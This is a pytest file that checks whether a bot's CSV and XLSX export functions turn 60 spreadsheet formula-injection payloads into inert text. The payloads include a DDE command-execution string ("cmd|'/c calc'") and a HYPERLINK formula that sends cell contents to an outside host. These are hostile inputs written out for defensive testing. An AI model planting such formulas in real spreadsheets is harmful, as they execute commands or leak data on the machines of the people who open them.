"""Exports: 60 payloads stay text, and come back as they were (SEC-18)."""

from __future__ import annotations

import csv
import io

import pytest
from openpyxl import load_workbook

from bot.web.tableur import csv_file, xlsx_file

STARTS = ["=", "+", "-", "@", "\t", "\r", "\n", "\0", "＝", "＋", "－", "＠", "−", " =", "\u200b=", "\ufeff=", "\t=", "\n=", "  +", "﹣"]
TAILS = ["cmd|'/c calc'!A1", "SUM(A1:A9)", 'HYPERLINK("https://ailleurs.com?"&A1,"x")']
PAYLOADS = [start + tail for start in STARTS for tail in TAILS]
PLAIN = ["", "Entreprise exemple", "a=1", '"=1"', "l'aide", "1,5 %", "ligne\r\nsuivante", "é;è,à", "'=1"]


def read_csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def test_there_are_sixty() -> None:
    assert len(set(PAYLOADS)) == 60


@pytest.mark.parametrize("payload", PAYLOADS, ids=range(len(PAYLOADS)))
def test_a_payload_is_text(payload: str) -> None:
    (_, (cell,)) = read_csv(csv_file(["x"], [[payload]]))
    assert cell == "'" + payload.replace("\0", "")
    sheet = load_workbook(io.BytesIO(xlsx_file("x", ["x"], [[payload]]))).active
    assert sheet["A2"].data_type in ("s", "inlineStr") and not str(sheet["A2"].value).startswith("'")
    assert str(sheet["A2"].value).replace("_x000D_", "\r").replace("\r", "\n") == payload.replace("\0", "").replace("\r", "\n")


@pytest.mark.parametrize("text", PLAIN, ids=range(len(PLAIN)))
def test_plain_text_is_left_alone(text: str) -> None:
    (_, (cell,)) = read_csv(csv_file(["x"], [[text]])) if text else ([], [""])
    assert cell == text


def test_numbers_stay_numbers() -> None:
    content = csv_file(["a", "b", "c"], [[-12, 1.5, None]])
    assert content.endswith(b'\r\n-12,1.5,""\r\n')
    row = load_workbook(io.BytesIO(xlsx_file("x", ["a", "b", "c"], [[-12, 1.5, None]]))).active[2]
    assert [cell.value for cell in row][:2] == [-12, 1.5]


def test_a_negative_number_written_by_a_person_is_text() -> None:
    assert b"\"'-12\"" in csv_file(["a"], [["-12"]])
